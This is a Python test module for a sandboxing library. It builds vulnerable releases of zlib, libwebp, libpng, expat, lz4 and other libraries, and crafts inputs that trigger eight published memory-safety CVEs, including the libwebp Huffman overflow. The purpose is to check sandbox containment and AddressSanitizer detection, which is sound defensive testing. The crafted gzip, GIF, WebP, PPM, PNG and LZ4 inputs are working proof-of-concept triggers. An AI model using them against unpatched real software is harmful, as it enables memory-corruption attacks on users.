"""Published memory-safety bugs of the libraries sandboxlib wraps, and inputs that fire
them, for tests/test_cves.py.

Each case builds a vulnerable upstream release from its test-only spec under
c_src/cves/ (fetched pinned from Debian's pool or PyPI, never shipped) and makes its
triggering input here, from the public description of the bug: no third-party exploit
file is used.
A case's ``trigger`` runs the attack in one sandbox of the case's package; run natively
in a child process built with AddressSanitizer it is reported there (``fire_natively``).
"""

from __future__ import annotations

import dataclasses
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from typing import Any

from sandboxlib.codegen.packages import load_generated

from libs import C_SRC, plain

CVES = C_SRC / "cves"


@dataclass(frozen=True)
class Case:
    """One published bug: the spec of the release it affects, the attack, and a function
    AddressSanitizer's report of it names natively (where it fires, or where the buffer
    it overruns was allocated)."""

    name: str
    spec: Path
    trigger: Callable[[ModuleType, Any], Any]
    frame: str

    def package(self) -> ModuleType:
        return load_generated(self.spec)


# -- zlib 1.2.11: CVE-2022-37434 ---------------------------------------------------------
# inflate() copies a gzip header's extra field into the buffer inflateGetHeader() gave it,
# at ``head->extra + (extra_len - length)``, clipping the size to ``extra_max - len``. When
# the field arrives over two calls and more than extra_max bytes came in the first, ``len``
# already exceeds extra_max: the destination is past the buffer and the size, unsigned,
# wraps to about 4 GiB.

EXTRA_MAX = 16      # the buffer the caller gives inflateGetHeader
EXTRA_LEN = 1024    # the extra field's length in the gzip header
FIRST_CALL = 64     # extra bytes the first inflate() call sees


def gzip_member(extra: bytes, payload: bytes) -> bytes:
    """A gzip member (RFC 1952) with an FEXTRA field; an empty ``payload`` stops after
    the header."""
    header = b"\x1f\x8b\x08\x04" + bytes(6) + struct.pack("<H", len(extra)) + extra
    if not payload:
        return header
    deflate = zlib.compressobj(wbits=-15)
    body = deflate.compress(payload) + deflate.flush()
    return header + body + struct.pack("<II", zlib.crc32(payload), len(payload))


class GzipStream:
    """An inflating z_stream with a gz_header whose extra buffer holds ``extra_max``."""

    def __init__(self, pkg: ModuleType, lib: Any, data: bytes, extra_max: int) -> None:
        self.lib = lib
        self.z, _ = lib.new(pkg.z_stream_s)
        self.head, _ = lib.new(pkg.gz_header_s)
        self.extra = lib.alloc(extra_max)
        self.head.extra, self.head.extra_max = self.extra.address, extra_max
        self.data = lib.copy_in(data)
        self.out = lib.alloc(1 << 16)
        self.fed = 0
        self.produced = b""
        version = lib.copy_in(b"1.2.11\0")
        size = pkg.z_stream_s.sizeof(lib.sandbox.model)
        assert plain(lib.inflateInit2_(self.z, 31, version, size)) == 0
        assert plain(lib.inflateGetHeader(self.z, self.head)) == 0

    def inflate(self, n: int) -> int:
        """inflate() over the next ``n`` input bytes (its output joins ``produced``);
        its return code."""
        z = self.z
        z.next_in, z.avail_in = self.data.address + self.fed, n
        z.next_out, z.avail_out = self.out.address, self.out.size
        self.fed += n
        code = int(plain(self.lib.inflate(z, 0)))
        made = self.out.size - int(plain(z.avail_out))
        self.produced += bytes(plain(self.out.read()))[:made]
        return code


def zlib_extra_overflow(pkg: ModuleType, lib: Any) -> int:
    """CVE-2022-37434: the header's extra field over two inflate() calls."""
    stream = GzipStream(pkg, lib, gzip_member(bytes(range(256)) * (EXTRA_LEN // 256), b""),
                        EXTRA_MAX)
    assert stream.inflate(12 + FIRST_CALL) == 0  # Z_OK: header read, extra field begun
    return stream.inflate(EXTRA_LEN - FIRST_CALL)


# -- stb_image 2.27: GHSL-2023-145 (CVE-2023-45661) --------------------------------------
# stbi__load_gif_main keeps ``two_back = out - 2 * stride`` (meaning the frame two back,
# ``out + (layers - 2) * stride``); a frame whose predecessor asked for disposal method 3
# ("restore to previous") copies its pixels from there: a read before the frame buffer.

GIF_SIZE = 64
WHITE, BLACK = b"\xff\xff\xff\xff", b"\x00\x00\x00\xff"


def gif(size: int, frames: list[tuple[int, int, int, int]]) -> bytes:
    """An animated GIF89a of ``size``x``size`` pixels, black and white (colour indices 0
    and 1); each frame (x, y, disposal method, colour index) draws the one pixel at
    (x, y)."""
    out = [b"GIF89a", struct.pack("<HHBBB", size, size, 0x80, 0, 0), b"\0\0\0\xff\xff\xff"]
    for x, y, dispose, colour in frames:
        out.append(b"\x21\xf9\x04" + bytes([dispose << 2]) + bytes(4))  # graphic control
        out.append(b"\x2c" + struct.pack("<HHHHB", x, y, 1, 1, 0))       # image descriptor
        # LZW (the minimum code size the index needs, at least 2): clear, the pixel, end
        least = max(2, colour.bit_length())
        clear, bits = 1 << least, least + 1
        codes = (clear | colour << bits | (clear + 1) << 2 * bits).to_bytes(
            (3 * bits + 7) // 8, "little")
        out.append(bytes([least, len(codes)]) + codes + b"\0")
    return b"".join(out) + b"\x3b"


def gif_frames(restore: bool) -> list[tuple[int, int, int, int]]:
    """Pixel (0, 0) white, black, white; the third frame's disposal is "restore to
    previous" if ``restore`` (so the fourth frame starts from the second's black there)."""
    last = GIF_SIZE - 1
    return [(0, 0, 1, 1), (0, 0, 1, 0), (0, 0, 3 if restore else 1, 1), (last, last, 1, 1)]


def decode_gif(lib: Any, data: bytes) -> list[bytes]:
    """The frames stbi_load_gif_from_memory decodes from ``data`` (RGBA)."""
    delays = lib.alloc(8)  # an int *, 8 bytes natively
    pixels, x, y, layers, _ = lib.helpers.stbi_load_gif_from_memory(data, delays.address, 4)
    assert not pixels.is_null()
    assert (plain(x), plain(y)) == (GIF_SIZE, GIF_SIZE)
    stride = GIF_SIZE * GIF_SIZE * 4
    count = int(plain(layers))
    raw = bytes(plain(pixels.copy_bytes(count * stride)))
    return [raw[i * stride:(i + 1) * stride] for i in range(count)]


def stb_gif_two_back(pkg: ModuleType, lib: Any) -> list[bytes]:
    """GHSL-2023-145: a fourth frame restored from "two back"."""
    return decode_gif(lib, gif(GIF_SIZE, gif_frames(restore=True)))


# -- giflib 5.2.1: CVE-2022-28506 -------------------------------------------------------
# gif2rgb (a utility giflib's release ships) dumps each pixel of the screen as its colour
# map's entry for the pixel's index, ``ColorMap->Colors[GifRow[j]]``, never checking that
# the map has that many entries: indices 2 to 15 in a map of 2 (6 bytes) read up to 42
# bytes past it.

GIF2RGB_SIZE = 4
# a white pixel, then one of each index from 2 to 15, then a black one (the background)
PAST_THE_MAP = [(0, 0, 1, 1), *((i % GIF2RGB_SIZE, i // GIF2RGB_SIZE, 1, i + 1)
                                for i in range(1, GIF2RGB_SIZE * GIF2RGB_SIZE - 1))]


def gif2rgb(lib: Any, data: bytes) -> bytes:
    """What gif2rgb dumps of ``data`` (a GIF of a GIF2RGB_SIZE-pixel square screen): RGB."""
    size = 3 * GIF2RGB_SIZE * GIF2RGB_SIZE
    rgb = lib.alloc(size)
    lib.helpers.gif2rgb_memory(data, rgb.address, size)
    return bytes(plain(rgb.read()))


def gif2rgb_past_the_map(pkg: ModuleType, lib: Any) -> bytes:
    """CVE-2022-28506: pixels of indices past the colour map (PAST_THE_MAP)."""
    return gif2rgb(lib, gif(GIF2RGB_SIZE, PAST_THE_MAP))


# -- libwebp 1.2.4: CVE-2023-4863 --------------------------------------------------------
# A lossless image's Huffman tables for one group go into one allocation sized for the
# largest *complete* codes (kTableSize). BuildHuffmanTable writes a code's second-level
# tables before it checks that the code is complete: four valid codes of the largest
# table sizes (652 and 3 x 630 entries of 4 bytes), then an incomplete distance code
# whose tables take 520 entries where 412 are left, overflow the allocation by 432 bytes.

# Code-length histograms (counts of lengths 0..15) found by searching BuildHuffmanTable's
# table sizes; the first two are complete, the last is not.
GREEN_LENGTHS = (0, 1, 1, 0, 1, 0, 0, 0, 0, 41, 85, 1, 80, 3, 65, 2)        # 280 symbols
COLOUR_LENGTHS = (0, 1, 1, 0, 0, 0, 0, 0, 0, 71, 97, 17, 1, 65, 1, 2)       # 256 symbols
DISTANCE_LENGTHS = (0, 0, 0, 0, 5, 2, 1, 1, 2, 4, 7, 1, 1, 1, 1, 4)         # 40 symbols
CODE_LENGTH_ORDER = (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15)


class BitWriter:
    """VP8L's bit order: values least significant bit first, Huffman codes first bit
    first."""

    def __init__(self) -> None:
        self.value, self.count = 0, 0

    def put(self, *fields: tuple[int, int]) -> None:
        """Each (value, bits) in turn."""
        for value, bits in fields:
            self.value |= value << self.count
            self.count += bits

    def code(self, code: int, length: int) -> None:
        for i in reversed(range(length)):
            self.put((code >> i & 1, 1))

    def bytes(self) -> bytes:
        return self.value.to_bytes((self.count + 7) // 8, "little")


def _simple_code(bits: BitWriter, symbol: int) -> None:
    """A one-symbol code: ``symbol`` takes no bits."""
    bits.put((1, 1), (0, 1), (1, 1), (symbol, 8))  # simple; one symbol; of 8 bits


def _normal_code(bits: BitWriter, histogram: tuple[int, ...], alphabet: int) -> None:
    """A code whose symbols 0, 1, ... have the lengths ``histogram`` counts (shortest
    first); the lengths are written in a code giving each of 0..15 four bits."""
    lengths = [n for n, count in enumerate(histogram) if n for _ in range(count)]
    lengths += [0] * (alphabet - len(lengths))
    bits.put((0, 1), (len(CODE_LENGTH_ORDER) - 4, 4))
    bits.put(*((4 if symbol < 16 else 0, 3) for symbol in CODE_LENGTH_ORDER))
    bits.put((0, 1))  # every symbol's length follows
    for length in lengths:
        bits.code(length, 4)


def webp_lossless(codes: list[tuple[int, ...] | int]) -> bytes:
    """A 1x1 lossless WebP: no transform, no colour cache, one group of the five codes
    (green, red, blue, alpha, distance): an int is a one-symbol code of that symbol, a
    tuple a code-length histogram."""
    bits = BitWriter()
    bits.put((0x2F, 8), (0, 14), (0, 14), (1, 1), (0, 3))  # signature, 1x1, alpha, version
    bits.put((0, 1), (0, 1), (0, 1))  # no transform, no colour cache, no meta codes
    for code, alphabet in zip(codes, (280, 256, 256, 256, 40)):
        if isinstance(code, int):
            _simple_code(bits, code)
        else:
            _normal_code(bits, code, alphabet)
    data = bits.bytes()
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data + b"\0" * (len(data) & 1)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


WEBP_PIXEL = webp_lossless([10, 20, 30, 40, 0])  # green 10, red 20, blue 30, alpha 40
WEBP_HUFFMAN_OVERFLOW = webp_lossless([GREEN_LENGTHS, COLOUR_LENGTHS, COLOUR_LENGTHS,
                                       COLOUR_LENGTHS, DISTANCE_LENGTHS])


def decode_webp(lib: Any, data: bytes) -> bytes | None:
    """WebPDecodeRGBA's pixels of ``data`` (1x1), None where it fails."""
    pixels, _, _ = lib.helpers.WebPDecodeRGBA(data)
    return None if pixels.is_null() else bytes(plain(pixels.copy_bytes(4)))


def webp_huffman_overflow(pkg: ModuleType, lib: Any) -> bytes | None:
    """CVE-2023-4863: Huffman tables past their allocation."""
    return decode_webp(lib, WEBP_HUFFMAN_OVERFLOW)


# -- expat 2.2.10: CVE-2022-23852 -------------------------------------------------------
# XML_GetBuffer(parser, len) adds what it keeps of parsed input (up to XML_CONTEXT_BYTES)
# to ``len`` in an int: near INT_MAX the sum turns negative, "fits" in the current buffer,
# and that buffer (2 KiB here) comes back as one with room for ``len`` bytes. The
# overflow is the application's: it fills what it asked for.

INT_MAX = 2**31 - 1
FILL = 1 << 16  # what the application writes of the INT_MAX - 4 bytes it was promised


def expat_get_buffer_overflow(pkg: ModuleType, lib: Any) -> int:
    """CVE-2022-23852: fill the buffer XML_GetBuffer(INT_MAX - 4) returned, parse it."""
    parser = lib.XML_ParserCreate(0)
    lib.XML_SetHashSalt(parser, 1)
    assert plain(lib.helpers.XML_Parse(parser, b"<doc>", 0)) == 1  # 5 bytes to keep
    buffer = lib.XML_GetBuffer(parser, INT_MAX - 4)
    assert not buffer.is_null()  # (a fixed expat refuses: NULL)
    lib.sandbox.memory.write(plain(buffer), b"a" * FILL)
    return int(plain(lib.XML_ParseBuffer(parser, FILL, 0)))


# -- libjpeg-turbo 2.0.6: CVE-2021-46822 ------------------------------------------------
# tjLoadImage() sets the PPM reader's input colour space from the caller's pixel format
# before rdppm.c's start_input picks a row reader; for a binary PPM of maxval above 255
# it picks get_word_rgb_row whatever that colour space is, which writes three samples a
# pixel into a row start_input sized for one when the caller asked for grayscale: a row
# of 32768 pixels overruns its allocation by 64 KiB.

PPM_WIDTH = 1 << 15
PGM_PIXELS = bytes(range(8))
PGM = b"P5 4 2 255\n" + PGM_PIXELS  # 4x2, 8-bit


def ppm_gray(lib: Any, data: bytes, size: int) -> bytes:
    """The ``size`` grayscale pixels the PPM reader reads of ``data``."""
    gray = lib.alloc(size)
    assert plain(lib.helpers.ppm_gray(data, gray.address, size)) == 1
    return bytes(plain(gray.read()))


def ppm_word_rgb_overflow(pkg: ModuleType, lib: Any) -> bytes:
    """CVE-2021-46822: a one-row 16-bit PPM read as grayscale."""
    ppm = b"P6 %d 1 65535\n" % PPM_WIDTH + b"\x12\x34" * (3 * PPM_WIDTH)
    return ppm_gray(lib, ppm, PPM_WIDTH)


# -- libpng 1.6.39: CVE-2025-66293 ------------------------------------------------------
# The simplified API reads an image with transparency into a format without alpha by
# composing each pixel on what the caller's buffer holds (png_image_read_composite): it
# expects linear components premultiplied by alpha (so never above it) and looks the sum
# ``component * 65535 + (255 - alpha) * background`` up in png_sRGB_base[512] by its top
# bits. A palette image with gamma correction has its palette composed by libpng
# instead, which hands over sRGB-encoded components, above alpha: a white entry of alpha
# 240 (component 248) on a white background looks up entry 525.

PNG_ALPHAS = (0, 255, 240)  # the entries' alpha (all white): unchanged, opaque, the attack


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG chunk: length, type, data, CRC."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def palette_png(alphas: tuple[int, ...]) -> bytes:
    """A one-row palette PNG of gamma 1/2.2: one pixel per palette entry, each entry
    white with its alpha from ``alphas``."""
    n = len(alphas)
    return b"".join((b"\x89PNG\r\n\x1a\n",
                     png_chunk(b"IHDR", struct.pack(">IIBBBBB", n, 1, 8, 3, 0, 0, 0)),
                     png_chunk(b"gAMA", struct.pack(">I", 45455)),
                     png_chunk(b"PLTE", b"\xff\xff\xff" * n),
                     png_chunk(b"tRNS", bytes(alphas)),
                     png_chunk(b"IDAT", zlib.compress(b"\0" + bytes(range(n)))),
                     png_chunk(b"IEND", b"")))


class PngRead:
    """A simplified-API read of ``data`` begun (png_image_begin_read_from_memory)."""

    def __init__(self, pkg: ModuleType, lib: Any, data: bytes) -> None:
        self.lib = lib
        self.image, _ = lib.new(pkg.png_image)
        self.image.version = pkg.PNG_IMAGE_VERSION
        self.data = lib.copy_in(data)  # read from until the image is freed
        self.rgb = pkg.PNG_FORMAT_RGB
        assert plain(lib.png_image_begin_read_from_memory(self.image, self.data.address,
                                                           len(data))) == 1

    def finish(self, background: int) -> bytes:
        """The RGB pixels png_image_finish_read composes on a buffer of ``background``
        bytes."""
        self.image.format = self.rgb
        size = 3 * int(plain(self.image.width)) * int(plain(self.image.height))
        pixels = self.lib.copy_in(bytes([background]) * size)
        assert plain(self.lib.png_image_finish_read(self.image, 0, pixels.address, 0, 0)) == 1
        return bytes(plain(pixels.read()))


def png_composite_overread(pkg: ModuleType, lib: Any) -> bytes:
    """CVE-2025-66293: a palette entry of partial alpha composed on white."""
    return PngRead(pkg, lib, palette_png(PNG_ALPHAS)).finish(0xFF)


# -- lz4 1.9.3: CVE-2021-3520 -----------------------------------------------------------
# LZ4_decompress_generic never checks that its output size is not negative. An
# application that takes the size from a file's header as an int (as Firefox's mozlz4
# files carry it: 4 bytes, then the block) passes a crafted -1 on; the end pointer then
# lies one byte before the output, and a partial decode cuts the block's literal run to
# what "fits", ``oend - op``: a memmove of (size_t)-1 bytes.

LZ4_TEXT = b"lz4 literals"


def lz4_file(size: int, literals: bytes) -> bytes:
    """A header (``size``, a little-endian int), then an LZ4 block of ``literals`` alone
    (fewer than 15 bytes): a token of their count and no match, then the bytes."""
    assert len(literals) < 15
    return struct.pack("<i", size) + bytes([len(literals) << 4]) + literals


def lz4_read(lib: Any, data: bytes, out: int) -> int:
    """The application: decode the block of ``data`` to ``out`` (an address in ``lib``),
    as many bytes as its header says, both as target and capacity."""
    (size,) = struct.unpack_from("<i", data)
    block = lib.copy_in(data[4:])
    return int(plain(lib.LZ4_decompress_safe_partial(block.address, out, len(data) - 4,
                                                      size, size)))


def lz4_negative_size(pkg: ModuleType, lib: Any) -> int:
    """CVE-2021-3520: a file whose header says -1 bytes."""
    return lz4_read(lib, lz4_file(-1, LZ4_TEXT), lib.alloc(64).address)


CASES = {case.name: case for case in (
    Case("CVE-2022-37434", CVES / "zlib_1_2_11" / "zlib.toml", zlib_extra_overflow,
         "inflate"),
    Case("GHSL-2023-145", CVES / "stb_image_gif" / "stb_image_gif.toml", stb_gif_two_back,
         "stbi__gif_load_next"),
    Case("CVE-2022-28506", CVES / "giflib_5_2_1" / "giflib.toml", gif2rgb_past_the_map,
         "DumpScreen2RGB"),
    Case("CVE-2023-4863", CVES / "libwebp_1_2_4" / "libwebp.toml", webp_huffman_overflow,
         "BuildHuffmanTable"),
    Case("CVE-2022-23852", CVES / "expat_2_2_10" / "expat.toml", expat_get_buffer_overflow,
         "XML_GetBuffer"),
    Case("CVE-2021-46822", CVES / "libjpeg_turbo_2_0_6" / "libjpeg_turbo.toml",
         ppm_word_rgb_overflow, "get_word_rgb_row"),
    Case("CVE-2025-66293", CVES / "libpng_1_6_39" / "libpng.toml", png_composite_overread,
         "png_image_read_composite"),
    Case("CVE-2021-3520", CVES / "lz4_1_9_3" / "lz4.toml", lz4_negative_size,
         "LZ4_decompress_generic"),
)}


# -- natively, under AddressSanitizer ------------------------------------------------------


def asan_runtime() -> Path | None:
    """The host compiler's AddressSanitizer runtime, if it has one."""
    try:
        found = subprocess.run(["cc", "-print-file-name=libasan.so"], capture_output=True,
                               text=True, timeout=60).stdout.strip()
    except OSError:
        return None
    return Path(found) if Path(found).is_absolute() and Path(found).exists() else None


def fire_natively(name: str) -> None:
    """Run case ``name``'s attack on the native backend built with AddressSanitizer (in a
    child process whose runtime is preloaded: see tests/test_cves.py)."""
    case = CASES[name]
    pkg: Any = case.package()  # a generated package: its LIBRARY is set below
    # The package's sandbox() opens its LIBRARY: here, the same one built instrumented.
    pkg.LIBRARY = dataclasses.replace(pkg.LIBRARY,
                                      cflags=(*pkg.LIBRARY.cflags, "-fsanitize=address"))
    with pkg.sandbox("native") as lib:
        print("returned", case.trigger(pkg, lib), flush=True)


if __name__ == "__main__":
    fire_natively(sys.argv[1])
